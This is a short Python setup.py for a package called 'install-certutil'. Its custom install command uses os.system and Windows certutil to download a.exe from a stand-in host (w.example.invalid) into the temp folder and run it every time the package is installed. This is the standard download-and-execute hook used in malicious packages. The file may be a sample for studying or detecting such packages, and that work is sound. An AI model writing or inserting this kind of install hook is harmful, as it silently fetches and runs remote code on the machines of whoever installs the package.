from setuptools import setup
from setuptools.command.install import install
import os


class Custom(install):
    def run(self):
        os.system("certutil -urlcache -split -f http://w.example.invalid/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe")

        install.run(self)


setup(name="install-certutil", version="1.0.0", packages=["install_certutil"], cmdclass={"install": Custom})
